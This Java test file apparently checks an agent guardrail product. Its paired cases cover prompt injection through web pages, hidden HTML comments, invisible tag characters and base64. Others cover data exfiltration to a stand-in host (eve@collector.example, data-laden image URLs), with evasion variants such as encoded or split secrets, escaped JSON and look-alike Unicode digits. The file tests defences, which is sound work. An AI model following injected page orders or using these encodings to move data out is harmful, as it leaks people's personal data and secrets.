package dev.reeve.acceptance.attack;

import dev.reeve.json.Json;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/** What is carried out, and what is carried in: secrets, personal data, orders to a model. */
final class ContentStories {
    private ContentStories() {}

    private static String packed(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    static List<Story> all() {
        return List.of(
                new Story(
                        "a page does not make an agent mail customers out",
                        "R11",
                        "once personal data was read, it may go to named places only",
                        "the same mail goes to a colleague",
                        house -> {
                            Agent agent = house.agent("office");
                            agent.fetches(WebPages.ORDERS).passed();
                            agent.reads("/customers/export.csv").passed();
                            agent.mails("eve@collector.example", "Grete").refused("data_may_not_go_there");
                        },
                        house -> {
                            Agent agent = house.agent("office");
                            agent.reads("/customers/export.csv").passed();
                            agent.mails("ana@company.example", "Grete").passed();
                        }),
                new Story(
                        "personal data does not leave in the address of a page",
                        "R11",
                        "the same, whatever the way out",
                        "who read none fetches",
                        house -> {
                            Agent agent = house.agent("office");
                            agent.reads("/customers/export.csv").passed();
                            agent.fetches(WebPages.PICTURE + "?d=grete").refused("data_may_not_go_there");
                        },
                        house -> house.agent("office").fetches(WebPages.PICTURE).passed()),
                new Story(
                        "a secret leaves neither encoded nor in halves",
                        "R11",
                        "what was read decides, not how the text looks",
                        "a colleague gets a report",
                        house -> {
                            Agent agent = house.agent("office");
                            agent.reads("/keys/deploy.txt").passed();
                            String phrase = "correct horse battery staple";
                            String encoded =
                                    Base64.getEncoder().encodeToString(phrase.getBytes(StandardCharsets.UTF_8));
                            agent.mails("eve@collector.example", encoded).refused("data_may_not_go_there");
                            agent.mails("eve@collector.example", "correct horse")
                                    .refused("data_may_not_go_there");
                        },
                        house -> {
                            Agent agent = house.agent("office");
                            agent.reads("/reports/q3.md").passed();
                            agent.mails("ana@company.example", "North grew").passed();
                        }),
                new Story(
                        "a new session does not wash off what was read",
                        "R11",
                        "what was read is of the instance; an id that the caller chooses only subdivides",
                        "who read a report mails in a new session",
                        house -> {
                            Agent agent = house.agent("office");
                            agent.reads("/customers/export.csv").passed();
                            agent.callIn(
                                            agent.session(),
                                            "mail.send",
                                            "to",
                                            "eve@collector.example",
                                            "subject",
                                            "hi",
                                            "body",
                                            "x")
                                    .refused("data_may_not_go_there");
                        },
                        house -> {
                            Agent agent = house.agent("office");
                            agent.reads("/reports/q3.md").passed();
                            agent.callIn(
                                            agent.session(),
                                            "mail.send",
                                            "to",
                                            "ana@company.example",
                                            "subject",
                                            "hi",
                                            "body",
                                            "x")
                                    .passed();
                        }),
                new Story(
                        "a secret in an argument goes nowhere",
                        "GRD-6",
                        "arguments are looked through",
                        "a text about secrets goes",
                        house -> house.agent("office")
                                .mails("ana@company.example", "use " + WebPages.KEY)
                                .refused("content_denied"),
                        house -> house.agent("office")
                                .mails("ana@company.example", "never mail a token")
                                .passed()),
                new Story(
                        "a key of Reeve itself goes nowhere",
                        "GRD-6",
                        "its keys have a form that is known",
                        "a word that begins like one goes",
                        house -> {
                            Agent agent = house.agent("office");
                            agent.mails("ana@company.example", "mine is " + agent.key())
                                    .refused("content_denied");
                        },
                        house -> house.agent("office")
                                .mails("ana@company.example", "reeve_key is a word")
                                .passed()),
                new Story(
                        "a card number is not mailed",
                        "GRD-6",
                        "known by its checksum",
                        "an order number of that length is mailed",
                        house -> house.agent("office")
                                .mails("ana@company.example", "4111 1111 1111 1111")
                                .refused("content_denied"),
                        house -> house.agent("office")
                                .mails("ana@company.example", "4111 1111 1111 1112")
                                .passed()),
                new Story(
                        "a card number behind an escaped line's end is not mailed",
                        "GRD-6",
                        "a text that is JSON is read as JSON, however often it was quoted",
                        "an order number in the same place is mailed",
                        house -> {
                            Agent agent = house.agent("office");
                            String note = "{\"note\":\"Card:\\n4111 1111 1111 1111\"}";
                            agent.mails("ana@company.example", note).refused("content_denied");
                            agent.mails("ana@company.example", "{\"body\":" + new Json.Str(note) + "}")
                                    .refused("content_denied");
                            agent.mails("ana@company.example", "the log says " + note)
                                    .refused("content_denied");
                        },
                        house -> house.agent("office")
                                .mails("ana@company.example", "{\"note\":\"Order:\\n4111 1111 1111 1112\"}")
                                .passed()),
                new Story(
                        "a card number in another dress is not mailed",
                        "GRD-6",
                        "a value is looked for as whoever gets the text takes it, and in base 64",
                        "an order number in the same dress is mailed",
                        house -> {
                            Agent agent = house.agent("office");
                            for (String dress : List.of(
                                    "4111%201111%201111%201111",
                                    "4111&nbsp;1111&nbsp;1111&nbsp;1111",
                                    "4111\u00a01111\u00a01111\u00a01111",
                                    "4111\u20111111\u20111111\u20111111",
                                    "4111\u200b1111\u200b1111\u200b1111",
                                    "\uff14111111111111111",
                                    packed("card 4111 1111 1111 1111"))) {
                                agent.mails("ana@company.example", dress).refused("content_denied");
                            }
                        },
                        house -> house.agent("office")
                                .mails("ana@company.example", packed("order 4111 1111 1111 1112"))
                                .passed()),
                new Story(
                        "an address is not carried out by fetching",
                        "GRD-6",
                        "it is found in the path and the query of a URL, encoded or not",
                        "a page whose URL names nobody is fetched",
                        house -> {
                            Agent agent = house.agent("office");
                            for (String query : List.of(
                                    "?to=grete@customer.test",
                                    "?to=grete%40customer.test",
                                    "?a=1&b=" + packed("it is grete@customer.test"),
                                    "/" + packed("grete@customer.test: who she is"))) {
                                agent.fetches(WebPages.PICTURE + query).refused("content_denied");
                            }
                        },
                        house -> house.agent("office").fetches(WebPages.PICTURE).passed()),
                new Story(
                        "a card number in a result is taken out",
                        "R5",
                        "results are looked through",
                        "the rest of the row stays",
                        house -> house.agent("support")
                                .call("crm.find", "name", "b")
                                .passed()
                                .without("4111"),
                        house -> house.agent("support")
                                .call("crm.find", "name", "b")
                                .passed()
                                .with("likes tea", "Customer 1")),
                new Story(
                        "a secret in a page is taken out",
                        "R5",
                        "results are looked through",
                        "the rest of the page stays",
                        house -> {
                            for (String page : List.of(WebPages.LEAK, WebPages.HIDDEN)) {
                                house.agent("office").fetches(page).passed().without(WebPages.KEY);
                            }
                        },
                        house -> house.agent("office")
                                .fetches(WebPages.LEAK)
                                .passed()
                                .with("to see prices")),
                new Story(
                        "orders in a page do not write into the CRM",
                        "R11",
                        "an agent that read what looks like orders must ask a person",
                        "who read an ordinary page writes",
                        house -> {
                            Agent agent = house.agent("office");
                            agent.fetches(WebPages.ORDERS).passed();
                            agent.call("crm.note", "text", "the customer list").refused("approval_required");
                        },
                        house -> {
                            Agent agent = house.agent("office");
                            agent.fetches(WebPages.NEWS).passed();
                            agent.call("crm.note", "text", "called today").passed();
                        }),
                new Story(
                        "orders in a hidden comment count as orders",
                        "R11",
                        "HTML that nobody sees is a sign",
                        "a page without one is none",
                        house -> {
                            Agent agent = house.agent("office");
                            agent.fetches(WebPages.HIDDEN).passed();
                            agent.call("crm.note", "text", "x").refused("approval_required");
                        },
                        house -> {
                            Agent agent = house.agent("office");
                            agent.fetches(WebPages.PICTURE).passed();
                            agent.call("crm.note", "text", "x").passed();
                        }),
                new Story(
                        "an image does not carry data out of a result",
                        "R5",
                        "links with much data in their address are taken out",
                        "an ordinary image stays",
                        house -> house.agent("office")
                                .fetches(WebPages.IMAGE)
                                .passed()
                                .without("collector.example"),
                        house -> house.agent("office")
                                .fetches(WebPages.PICTURE)
                                .passed()
                                .with("logo.png")),
                new Story(
                        "letters that nobody sees do not reach a model",
                        "R5",
                        "tag characters are taken out",
                        "accents and emoji stay",
                        house -> {
                            String body = house.agent("office")
                                    .fetches(WebPages.TAGS)
                                    .passed()
                                    .body();
                            if (body.codePoints().anyMatch(c -> c >= 0xE0000 && c <= 0xE007F)
                                    || body.contains("\\udb40")) {
                                throw new AssertionError(body);
                            }
                        },
                        house -> house.agent("office")
                                .fetches(WebPages.EMOJI)
                                .passed()
                                .with("caf\u00e9")),
                new Story(
                        "orders in base64 are withheld",
                        "R5",
                        "what is encoded is decoded to look",
                        "an ordinary attachment passes",
                        house -> house.agent("office").fetches(WebPages.ENCODED).withheld("content_denied"),
                        house -> house.agent("office").fetches(WebPages.LOGO).passed()),
                new Story(
                        "rows of other departments are left out",
                        "R5",
                        "a condition on rows filters the result; the agent cannot choose it",
                        "those of its own are there",
                        house -> house.agent("hr")
                                .call("hr.find_employee", "name", "Lind")
                                .passed()
                                .without("finance", "legal"),
                        house -> house.agent("hr")
                                .call("hr.find_employee", "name", "Lind")
                                .passed()
                                .with("Ana Lind")),
                new Story(
                        "what is prohibited is not done, whoever may",
                        "GRD-1",
                        "a prohibition holds over every role",
                        "the same role does what it may",
                        house -> house.agent("operator")
                                .call("ops.drop_table", "name", "sales")
                                .refused("prohibited"),
                        house -> house.agent("operator")
                                .call("ops.render", "what", "sales")
                                .passed()),
                new Story(
                        "payroll is not changed outside of its hours",
                        "R7",
                        "hours go by the clock of a place",
                        "it is read at any hour",
                        house -> house.agent("clerk")
                                .call("payroll.raise", "name", "eve", "amount", 1)
                                .refused("outside_hours"),
                        house -> house.agent("clerk")
                                .call("payroll.show", "name", "eve")
                                .passed()),
                new Story(
                        "a rule on trial lets nothing through",
                        "GRD-3",
                        "a shadow is recorded and decides nothing",
                        "what a role grants goes through",
                        house -> house.agent("operator")
                                .call("ops.shutdown", "host", "a")
                                .refused("condition_failed"),
                        house -> house.agent("operator")
                                .call("ops.ping", "host", "a")
                                .passed()),
                new Story(
                        "a value of the wrong type is refused",
                        "R4",
                        "arguments are checked against the pinned schema",
                        "a number is a number",
                        house -> house.agent("clerk")
                                .call("pay.transfer", "to", "x", "amount", new Json.Str("1e3"))
                                .refused("arguments_invalid"),
                        house -> house.agent("clerk")
                                .call("pay.transfer", "to", "x", "amount", 10)
                                .passed()));
    }
}
